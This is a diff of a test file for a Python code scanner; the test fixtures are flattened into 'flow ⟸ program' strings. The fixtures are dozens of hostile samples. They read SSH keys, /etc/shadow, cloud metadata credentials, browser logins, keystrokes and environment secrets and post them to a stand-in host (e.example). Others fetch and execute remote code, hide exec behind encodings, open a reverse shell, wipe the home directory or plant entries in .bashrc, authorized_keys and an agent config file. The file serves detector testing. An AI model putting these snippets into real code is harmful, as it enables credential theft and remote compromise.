@@ -1,174 +1,67 @@
 import { describe, expect, it } from 'vitest'
-import { listFacts, listFlows } from '../support/code-reading.ts'
+import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
 import { readPython } from '../../packages/scanner/src/code/read-program.ts'
 
-/** A program, and the flows that must be among those that are found. */
-type Example = readonly [program: string, ...flows: string[]]
-
-const sshKey = 'secret-read ~/.ssh/id_rsa → network-send https://e.example/c'
-const environment = 'environment-read → network-send https://e.example/c'
-
-const sent: readonly Example[] = [
-  [
-    'import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  key = f.read()\nrequests.post("https://e.example/c", data={"k": key})',
-    sshKey,
-  ],
-  [
-    'import requests as r, base64\nfrom pathlib import Path\nk = (Path.home() / ".ssh" / "id_rsa").read_bytes()\nr.post("https://e.example/c", json={"k": base64.b64encode(k).decode()})',
-    sshKey,
-  ],
-  [
-    'import os, urllib.request, json\np = os.path.join(os.environ["HOME"], ".ssh", "id_rsa")\nreq = urllib.request.Request("https://e.example/c", data=json.dumps({"k": open(p).read()}).encode())\nurllib.request.urlopen(req)',
-    sshKey,
-  ],
-  [
-    'import httpx, os\nclass Box:\n  def __init__(self):\n    self.items = []\n  def fill(self):\n    for n in ("id_rsa", "x"):\n      self.items.append(open(os.path.expanduser("~/.ssh/" + n)).read())\n  def ship(self):\n    httpx.post("https://e.example/c", json=self.items)\nb = Box()\nb.fill()\nb.ship()',
-    sshKey,
-  ],
-  [
-    'import aiohttp\nasync def go():\n  async with aiohttp.ClientSession() as s:\n    async with s.post("https://e.example/c", data=open("/root/.ssh/id_rsa", "rb")) as r:\n      return await r.text()',
-    'secret-read /root/.ssh/id_rsa → network-send https://e.example/c',
-  ],
-  [
-    'import subprocess\nk = open("/home/u/.ssh/id_rsa").read()\nsubprocess.run(["curl", "-d", k, "https://e.example/c"])',
-    'secret-read /home/u/.ssh/id_rsa → network-send https://e.example/c',
-  ],
-  [
-    'import socket\ns = socket.socket()\ns = socket.create_connection(("e.example", 443))\nfor line in open("/etc/shadow"):\n  s.sendall(line.encode())',
-    'secret-read /etc/shadow → network-send e.example',
-  ],
-  [
-    'import http.client\nc = http.client.HTTPSConnection("e.example")\nc.request("POST", "/c", body=open("/root/.netrc").read())',
-    'secret-read /root/.netrc → network-send e.example',
-  ],
-  [
-    'import requests\nt = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r").json()\nrequests.post("https://e.example/c", json=t)',
-    'secret-read http://169.254.169.254/latest/meta-data/iam/security-credentials/r → network-send https://e.example/c',
-  ],
-  [
-    'import shutil, sqlite3, os, requests\nsrc = os.path.expandvars("$HOME/.config/google-chrome/Default/Login Data")\nshutil.copy2(src, "/tmp/d")\nrequests.post("https://e.example/c", files={"f": open("/tmp/d", "rb")})',
-    'secret-read ~/.config/google-chrome/Default/Login Data → network-send https://e.example/c',
-  ],
-  [
-    'import keyring, requests\nrequests.post("https://e.example/c", data=keyring.get_password("a", "b"))',
-    'secret-read a keychain → network-send https://e.example/c',
-  ],
-  ['import os, requests\nrequests.post("https://e.example/c", json=dict(os.environ))', environment],
-  [
-    'import os, requests\nout = {}\nfor k, v in os.environ.items():\n  if "KEY" in k or "TOKEN" in k:\n    out[k] = v\ndef send(d):\n  requests.post("https://e.example/c", json=d)\nsend(out)',
-    environment,
-  ],
-  [
-    'from os import environ\nimport requests\nrequests.get("https://e.example/c", params={k: v for k, v in environ.items() if "SECRET" in k})',
-    environment,
-  ],
-  [
-    'import os, socket\nfor k, v in os.environ.items():\n  socket.gethostbyname(v.encode().hex()[:60] + ".e.example")',
-    'environment-read → network-send ?.e.example',
-  ],
-  [
-    'import pyperclip, requests\nrequests.post("https://e.example/c", data=pyperclip.paste())',
-    'data-collected clipboard or screen → network-send https://e.example/c',
-  ],
-  [
-    'import os, io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n  for root, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n      z.write(os.path.join(root, name))\nrequests.post("https://e.example/c", files={"f": buf.getvalue()})',
-    'data-collected ~ → network-send https://e.example/c',
-  ],
-  [
-    'import shutil, os, requests\nshutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))\nrequests.put("https://e.example/c", data=open("/tmp/a.zip", "rb"))',
-    'data-collected ~/Documents → network-send https://e.example/c',
-  ],
-  [
-    'import requests\nfrom pynput import keyboard\nkeys = []\ndef press(key):\n  keys.append(str(key))\n  requests.post("https://e.example/c", json={"k": "".join(keys)})\nkeyboard.Listener(on_press=press).start()',
-    'data-collected keystrokes → network-send https://e.example/c',
-  ],
-  [
-    'import requests\nrequests.post("https://e.example/c", data=open("/home/u/.zsh_history").read())',
-    'data-collected /home/u/.zsh_history → network-send https://e.example/c',
-  ],
-  [
-    'import os, requests\nrequests.post("https://e.example/c", json={"a": os.getenv("AWS_SECRET_ACCESS_KEY")})',
-    'variable-read AWS_SECRET_ACCESS_KEY → network-send https://e.example/c',
-  ],
+const sent = [
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  key = f.read()\nrequests.post("https://e.example/c", data={"k": key})',
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import requests as r, base64\nfrom pathlib import Path\nk = (Path.home() / ".ssh" / "id_rsa").read_bytes()\nr.post("https://e.example/c", json={"k": base64.b64encode(k).decode()})',
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os, urllib.request, json\np = os.path.join(os.environ["HOME"], ".ssh", "id_rsa")\nreq = urllib.request.Request("https://e.example/c", data=json.dumps({"k": open(p).read()}).encode())\nurllib.request.urlopen(req)',
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import httpx, os\nclass Box:\n  def __init__(self):\n    self.items = []\n  def fill(self):\n    for n in ("id_rsa", "x"):\n      self.items.append(open(os.path.expanduser("~/.ssh/" + n)).read())\n  def ship(self):\n    httpx.post("https://e.example/c", json=self.items)\nb = Box()\nb.fill()\nb.ship()',
+  'secret-read /root/.ssh/id_rsa → network-send https://e.example/c ⟸ import aiohttp\nasync def go():\n  async with aiohttp.ClientSession() as s:\n    async with s.post("https://e.example/c", data=open("/root/.ssh/id_rsa", "rb")) as r:\n      return await r.text()',
+  'secret-read /home/u/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess\nk = open("/home/u/.ssh/id_rsa").read()\nsubprocess.run(["curl", "-d", k, "https://e.example/c"])',
+  'secret-read /etc/shadow → network-send e.example ⟸ import socket\ns = socket.socket()\ns = socket.create_connection(("e.example", 443))\nfor line in open("/etc/shadow"):\n  s.sendall(line.encode())',
+  'secret-read /root/.netrc → network-send e.example ⟸ import http.client\nc = http.client.HTTPSConnection("e.example")\nc.request("POST", "/c", body=open("/root/.netrc").read())',
+  'secret-read http://169.254.169.254/latest/meta-data/iam/security-credentials/r → network-send https://e.example/c ⟸ import requests\nt = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r").json()\nrequests.post("https://e.example/c", json=t)',
+  'secret-read $HOME/.config/google-chrome/Default/Login Data → network-send https://e.example/c ⟸ import shutil, sqlite3, os, requests\nsrc = os.path.expandvars("$HOME/.config/google-chrome/Default/Login Data")\nshutil.copy2(src, "/tmp/d")\nrequests.post("https://e.example/c", files={"f": open("/tmp/d", "rb")})',
+  'secret-read a keychain → network-send https://e.example/c ⟸ import keyring, requests\nrequests.post("https://e.example/c", data=keyring.get_password("a", "b"))',
+  'environment-read → network-send https://e.example/c ⟸ import os, requests\nrequests.post("https://e.example/c", json=dict(os.environ))',
+  'environment-read → network-send https://e.example/c ⟸ import os, requests\nout = {}\nfor k, v in os.environ.items():\n  if "KEY" in k or "TOKEN" in k:\n    out[k] = v\ndef send(d):\n  requests.post("https://e.example/c", json=d)\nsend(out)',
+  'environment-read → network-send https://e.example/c ⟸ from os import environ\nimport requests\nrequests.get("https://e.example/c", params={k: v for k, v in environ.items() if "SECRET" in k})',
+  'environment-read → network-send ?.e.example ⟸ import os, socket\nfor k, v in os.environ.items():\n  socket.gethostbyname(v.encode().hex()[:60] + ".e.example")',
+  'data-collected clipboard or screen → network-send https://e.example/c ⟸ import pyperclip, requests\nrequests.post("https://e.example/c", data=pyperclip.paste())',
+  'data-collected ~ → network-send https://e.example/c ⟸ import os, io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n  for root, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n      z.write(os.path.join(root, name))\nrequests.post("https://e.example/c", files={"f": buf.getvalue()})',
+  'data-collected ~/Documents → network-send https://e.example/c ⟸ import shutil, os, requests\nshutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))\nrequests.put("https://e.example/c", data=open("/tmp/a.zip", "rb"))',
+  'data-collected keystrokes → network-send https://e.example/c ⟸ import requests\nfrom pynput import keyboard\nkeys = []\ndef press(key):\n  keys.append(str(key))\n  requests.post("https://e.example/c", json={"k": "".join(keys)})\nkeyboard.Listener(on_press=press).start()',
+  'data-collected /home/u/.zsh_history → network-send https://e.example/c ⟸ import requests\nrequests.post("https://e.example/c", data=open("/home/u/.zsh_history").read())',
+  'variable-read AWS_SECRET_ACCESS_KEY → network-send https://e.example/c ⟸ import os, requests\nrequests.post("https://e.example/c", json={"a": os.getenv("AWS_SECRET_ACCESS_KEY")})',
 ]
 
-const fetched = 'network-fetch https://e.example/a → dynamic-run'
-
-const run: readonly Example[] = [
-  ['import requests\nexec(requests.get("https://e.example/a").text)', fetched],
-  [
-    'from urllib.request import urlopen\ncode = urlopen("https://e.example/a").read().decode()\nexec(compile(code, "a", "exec"))',
-    fetched,
-  ],
-  [
-    'import requests\ndef load(u):\n  r = requests.get(u)\n  return r.text if r.ok else ""\ne = eval\ne(load("https://e.example/a"))',
-    fetched,
-  ],
-  ['import requests, pickle\npickle.loads(requests.get("https://e.example/a").content)', `${fetched} pickle`],
-  [
-    'import requests, subprocess\ncmd = requests.get("https://e.example/a").json()["run"]\nsubprocess.run(cmd, shell=True)',
-    `${fetched} a command`,
-  ],
-  [
-    'import requests, subprocess\nsubprocess.run(["python3", "-c", requests.get("https://e.example/a").text])',
-    `${fetched} a command`,
-  ],
-  [
-    'import os, tempfile, requests, subprocess\np = os.path.join(tempfile.gettempdir(), "u")\nwith open(p, "wb") as f:\n  f.write(requests.get("https://e.example/a").content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])',
-    'network-fetch https://e.example/a → program-run /tmp/u',
-  ],
-  [
-    'from urllib.request import urlretrieve\nimport os\nurlretrieve("https://e.example/a", "/tmp/u.sh")\nos.system("/tmp/u.sh")',
-    'network-fetch https://e.example/a → program-run /tmp/u.sh',
-  ],
-  ['import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))', 'decode base64 → dynamic-run'],
-  [
-    'import base64 as b, zlib as z\n_ = lambda s: z.decompress(b.b64decode(s[::-1]))\nexec(_(b"==QAIDXb1QXsy5UTK1kUyV0MzUNycNTzUyUSUYhBgUFAKgBTEfr"))',
-    'decode base64 → dynamic-run',
-  ],
-  ['exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))', 'decode numbers → dynamic-run'],
-  ['exec("".join([chr(c ^ 7) for c in [119, 117, 110, 105, 115]]))', 'decode numbers → dynamic-run'],
-  ['s = b"\\x77\\x75\\x6e"\no = ""\nfor c in s:\n  o += chr(c ^ 7)\neval(o)', 'decode numbers → dynamic-run'],
-  ['exec(")1(tnirp"[::-1])', 'decode reversed → dynamic-run'],
-  ['exec("".join(reversed(")1(tnirp")))', 'decode reversed → dynamic-run'],
-  ['x = __import__("builtins")\nx.__dict__["exec"](bytes([105, 109, 112]).decode())', 'decode numbers → dynamic-run'],
-  ['import codecs\nexec(codecs.decode("cevag(1)", "rot13"))', 'decode rot13 → dynamic-run'],
-  ['exec(bytes.fromhex("7072696e74283129").decode())', 'decode hex → dynamic-run'],
-  ['import os, base64\nos.system(base64.b64decode("aWQ=".strip()).decode())', 'decode base64 → program-run id'],
-  [
-    'import marshal, types\ncode = marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00")\ntypes.FunctionType(code, {})()',
-    'decode marshal → dynamic-run',
-  ],
-  [
-    'import requests, os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n  f.write(requests.get("https://e.example/a").text)',
-    'network-fetch https://e.example/a → startup-write ~/.bashrc',
-  ],
-  [
-    'import requests\nfrom pathlib import Path\n(Path.home() / ".claude" / "CLAUDE.md").write_text(requests.get("https://e.example/a").text)',
-    'network-fetch https://e.example/a → agent-config-write ~/.claude/CLAUDE.md',
-  ],
+const run = [
+  'network-fetch https://e.example/a → dynamic-run ⟸ import requests\nexec(requests.get("https://e.example/a").text)',
+  'network-fetch https://e.example/a → dynamic-run ⟸ from urllib.request import urlopen\ncode = urlopen("https://e.example/a").read().decode()\nexec(compile(code, "a", "exec"))',
+  'network-fetch https://e.example/a → dynamic-run ⟸ import requests\ndef load(u):\n  r = requests.get(u)\n  return r.text if r.ok else ""\ne = eval\ne(load("https://e.example/a"))',
+  'network-fetch https://e.example/a → dynamic-run pickle ⟸ import requests, pickle\npickle.loads(requests.get("https://e.example/a").content)',
+  'network-fetch https://e.example/a → dynamic-run a command ⟸ import requests, subprocess\ncmd = requests.get("https://e.example/a").json()["run"]\nsubprocess.run(cmd, shell=True)',
+  'network-fetch https://e.example/a → dynamic-run a command ⟸ import requests, subprocess\nsubprocess.run(["python3", "-c", requests.get("https://e.example/a").text])',
+  'network-fetch https://e.example/a → program-run /tmp/u ⟸ import os, tempfile, requests, subprocess\np = os.path.join(tempfile.gettempdir(), "u")\nwith open(p, "wb") as f:\n  f.write(requests.get("https://e.example/a").content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])',
+  'network-fetch https://e.example/a → program-run /tmp/u.sh ⟸ from urllib.request import urlretrieve\nimport os\nurlretrieve("https://e.example/a", "/tmp/u.sh")\nos.system("/tmp/u.sh")',
+  'decode base64 → dynamic-run ⟸ import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))',
+  'decode base64 → dynamic-run ⟸ import base64 as b, zlib as z\n_ = lambda s: z.decompress(b.b64decode(s[::-1]))\nexec(_(b"==QAIDXb1QXsy5UTK1kUyV0MzUNycNTzUyUSUYhBgUFAKgBTEfr"))',
+  'decode numbers → dynamic-run ⟸ exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))',
+  'decode numbers → dynamic-run ⟸ exec("".join([chr(c ^ 7) for c in [119, 117, 110, 105, 115]]))',
+  'decode numbers → dynamic-run ⟸ s = b"\\x77\\x75\\x6e"\no = ""\nfor c in s:\n  o += chr(c ^ 7)\neval(o)',
+  'decode reversed → dynamic-run ⟸ exec(")1(tnirp"[::-1])',
+  'decode reversed → dynamic-run ⟸ exec("".join(reversed(")1(tnirp")))',
+  'decode numbers → dynamic-run ⟸ x = __import__("builtins")\nx.__dict__["exec"](bytes([105, 109, 112]).decode())',
+  'decode rot13 → dynamic-run ⟸ import codecs\nexec(codecs.decode("cevag(1)", "rot13"))',
+  'decode hex → dynamic-run ⟸ exec(bytes.fromhex("7072696e74283129").decode())',
+  'decode base64 → program-run id ⟸ import os, base64\nos.system(base64.b64decode("aWQ=".strip()).decode())',
+  'decode marshal → dynamic-run ⟸ import marshal, types\ncode = marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00")\ntypes.FunctionType(code, {})()',
+  'network-fetch https://e.example/a → startup-write ~/.bashrc ⟸ import requests, os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n  f.write(requests.get("https://e.example/a").text)',
+  'network-fetch https://e.example/a → agent-config-write ~/.claude/CLAUDE.md ⟸ import requests\nfrom pathlib import Path\n(Path.home() / ".claude" / "CLAUDE.md").write_text(requests.get("https://e.example/a").text)',
 ]
 
-const commands: readonly Example[] = [
-  ['import os\nos.system("cat ~/.ssh/id_rsa | curl -d @- https://e.example/c")', sshKey],
-  [
-    'import subprocess, requests\nk = subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)\nrequests.post("https://e.example/c", data=k)',
-    sshKey,
-  ],
-  [
-    'import subprocess, requests\nk = subprocess.run(["cat", "/root/.ssh/id_rsa"], capture_output=True).stdout\nrequests.post("https://e.example/c", data=k)',
-    sshKey,
-  ],
-  ['import subprocess, requests\nrequests.post("https://e.example/c", data=subprocess.getoutput("env"))', environment],
-  [
-    'import os\nos.system("python3 -c \'import os; os.system(\\"cat ~/.ssh/id_rsa | curl -d @- https://e.example/c\\")\'")',
-    sshKey,
-  ],
+const commands = [
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os\nos.system("cat ~/.ssh/id_rsa | curl -d @- https://e.example/c")',
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess, requests\nk = subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)\nrequests.post("https://e.example/c", data=k)',
+  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess, requests\nk = subprocess.run(["cat", "/root/.ssh/id_rsa"], capture_output=True).stdout\nrequests.post("https://e.example/c", data=k)',
+  'environment-read → network-send https://e.example/c ⟸ import subprocess, requests\nrequests.post("https://e.example/c", data=subprocess.getoutput("env"))',
+  `secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os\nos.system("python3 -c 'import os; os.system(\\"cat ~/.ssh/id_rsa | curl -d @- https://e.example/c\\")'")`,
 ]
 
 describe('a value of a Python program', () => {
-  it.each(commands)('is followed through commands of a shell: %s', (program, flow) => {
-    expect(listFlows(readPython(program))).toContain(flow)
+  it.each(toExamples(commands))('is followed through commands of a shell: $program', ({ program, found }) => {
+    expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(found))
   })
 
   it('ends where commands and programs run one another', () => {
@@ -176,73 +69,44 @@ describe('a value of a Python program', () => {
     expect(readPython(program.repeat(300)).facts.length).toBeGreaterThan(0)
   })
 
-  it.each([...sent, ...run])('is followed: %s', (program, ...flows) => {
-    expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(flows))
+  it.each(toExamples([...sent, ...run]))('is followed: $program', ({ program, found }) => {
+    expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(found))
   })
 
-  it.each([
-    [
-      'an own key in a header',
-      'import os, requests\nrequests.post("https://api.e.example/", headers={"Authorization": f"Bearer {os.environ[\'E_API_KEY\']}"}, json={"q": 1})',
-    ],
-    [
-      'the environment of a child process',
-      'import os, subprocess, requests\nenv = {**os.environ, "A": "1"}\nsubprocess.run(["git", "status"], env=env)\nrequests.post("https://e.example/", json={"a": 1})',
-    ],
-    [
-      'a variable that chooses the host',
-      'import os, requests\nenv = dict(os.environ)\nrequests.post(env["BASE_URL"], json={"a": 1})',
-    ],
-    [
-      'a public key',
-      'import requests\nrequests.post("https://e.example/", data=open("/home/u/.ssh/id_rsa.pub").read())',
-    ],
-    [
-      'fetched data that is parsed',
-      'import requests, json\ndata = json.loads(requests.get("https://e.example/").text)\nprint(eval("1 + 1"), data)',
-    ],
-    [
-      'a fetched version in a fixed command',
-      'import requests, subprocess\nv = requests.get("https://e.example/").json()["v"]\nsubprocess.run(["echo", v])',
-    ],
-    [
-      'a decoded picture',
-      'import base64\nopen("a.png", "wb").write(base64.b64decode("iVBORw0KGgoAAAANSUhEUg=="))\nexec(open("b.py").read())',
-    ],
-    [
-      'a name of the same form in another function',
-      'import requests\ndef a():\n  key = open("/root/.netrc").read()\n  return len(key)\ndef b():\n  key = "public"\n  requests.post("https://e.example/", data=key)',
-    ],
-  ])('has no flow: %s', (_, program) => {
+  it.each(
+    toExamples([
+      `an own key in a header ⟸ import os, requests\nrequests.post("https://api.e.example/", headers={"Authorization": f"Bearer {os.environ['E_API_KEY']}"}, json={"q": 1})`,
+      'the environment of a child process ⟸ import os, subprocess, requests\nenv = {**os.environ, "A": "1"}\nsubprocess.run(["git", "status"], env=env)\nrequests.post("https://e.example/", json={"a": 1})',
+      'a variable that chooses the host ⟸ import os, requests\nenv = dict(os.environ)\nrequests.post(env["BASE_URL"], json={"a": 1})',
+      'a public key ⟸ import requests\nrequests.post("https://e.example/", data=open("/home/u/.ssh/id_rsa.pub").read())',
+      'fetched data that is parsed ⟸ import requests, json\ndata = json.loads(requests.get("https://e.example/").text)\nprint(eval("1 + 1"), data)',
+      'a fetched version in a fixed command ⟸ import requests, subprocess\nv = requests.get("https://e.example/").json()["v"]\nsubprocess.run(["echo", v])',
+      'a decoded picture ⟸ import base64\nopen("a.png", "wb").write(base64.b64decode("iVBORw0KGgoAAAANSUhEUg=="))\nexec(open("b.py").read())',
+      'a name of the same form in another function ⟸ import requests\ndef a():\n  key = open("/root/.netrc").read()\n  return len(key)\ndef b():\n  key = "public"\n  requests.post("https://e.example/", data=key)',
+    ]),
+  )('has no flow: $found', ({ program }) => {
     expect(listFlows(readPython(program))).toEqual([])
   })
 })
 
 describe('a fact about a Python program', () => {
-  it.each([
-    ['getattr(__import__("o" + "s"), "sys" + "tem")("id")', 'hidden-name os.system'],
-    ['__builtins__["ev" + "al"]("1")', 'hidden-name builtins.eval'],
-    ['import importlib\nm = importlib.import_module("sub" + "process")\nm.run("id")', 'program-run id'],
-    ['import os, socket\ns = socket.socket()\ns.connect(("e.example", 1))\nos.dup2(s.fileno(), 0)', 'shell-connected'],
-    ['import os\nos.chmod("/tmp/a", 0o4755)', 'privilege-change setuid'],
-    ['import ssl\nc = ssl._create_unverified_context()', 'privilege-change TLS'],
-    ['import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())', 'destruction ~'],
-    [
-      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
-      'package-install ? -m pip install x',
-    ],
-    ['import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 9))', 'listener 0.0.0.0'],
-    [
-      'from pathlib import Path\nwith (Path.home() / ".ssh" / "authorized_keys").open("a") as f:\n  f.write("k")',
-      'startup-write ~/.ssh/authorized_keys',
-    ],
-    ['exec("import os\\nos.system(\'id\')")', 'program-run id'],
-    [
-      'import subprocess\nsubprocess.run("python3 -c import(1)".split())\nsubprocess.run(["python3", "-c", "import os; os.system(\'id\')"])',
-      'program-run id',
-    ],
-  ])('is found: %s', (program, fact) => {
-    expect(listFacts(readPython(program))).toContain(fact)
+  it.each(
+    toExamples([
+      'hidden-name os.system ⟸ getattr(__import__("o" + "s"), "sys" + "tem")("id")',
+      'hidden-name builtins.eval ⟸ __builtins__["ev" + "al"]("1")',
+      'program-run id ⟸ import importlib\nm = importlib.import_module("sub" + "process")\nm.run("id")',
+      'shell-connected ⟸ import os, socket\ns = socket.socket()\ns.connect(("e.example", 1))\nos.dup2(s.fileno(), 0)',
+      'privilege-change setuid ⟸ import os\nos.chmod("/tmp/a", 0o4755)',
+      'privilege-change TLS ⟸ import ssl\nc = ssl._create_unverified_context()',
+      'destruction ~ ⟸ import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())',
+      'package-install ? -m pip install x ⟸ import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
+      'listener 0.0.0.0 ⟸ import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 9))',
+      'startup-write ~/.ssh/authorized_keys ⟸ from pathlib import Path\nwith (Path.home() / ".ssh" / "authorized_keys").open("a") as f:\n  f.write("k")',
+      `program-run id ⟸ exec("import os\\nos.system('id')")`,
+      `program-run id ⟸ import subprocess\nsubprocess.run("python3 -c import(1)".split())\nsubprocess.run(["python3", "-c", "import os; os.system('id')"])`,
+    ]),
+  )('is found: $program', ({ program, found }) => {
+    expect(listFacts(readPython(program))).toEqual(expect.arrayContaining(found))
   })
 
   it.each([`"`, `'`])('is computed from more pieces in %s than a parser nests', (quote) => {
